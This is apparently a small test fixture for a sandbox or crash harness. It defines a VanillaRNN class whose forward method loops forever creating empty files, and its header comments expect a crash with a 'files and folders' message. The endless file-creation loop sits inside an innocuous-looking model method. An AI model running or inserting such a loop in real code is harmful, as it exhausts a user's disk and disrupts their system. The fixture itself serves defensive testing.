#: status = "crashed"
#: arguments = ["--time-scale", "1"]
#: says = "files and folders"
import itertools


class VanillaRNN(VanillaRNN):
    def forward(self, x):
        for number in itertools.count():
            open(f"file{number}", "w").close()
